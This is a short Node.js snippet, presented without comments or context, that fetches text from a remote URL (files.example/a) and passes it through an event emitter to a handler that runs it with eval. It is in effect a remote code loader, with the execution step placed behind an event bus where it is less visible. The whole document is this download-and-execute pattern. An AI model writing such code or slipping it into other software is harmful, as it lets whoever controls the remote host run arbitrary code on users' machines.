const { EventEmitter } = require('events');

const bus = new EventEmitter();
bus.on('step', (text) => eval(text));
fetch('https://files.example/a')
  .then((answer) => answer.text())
  .then((text) => bus.emit('step', text));
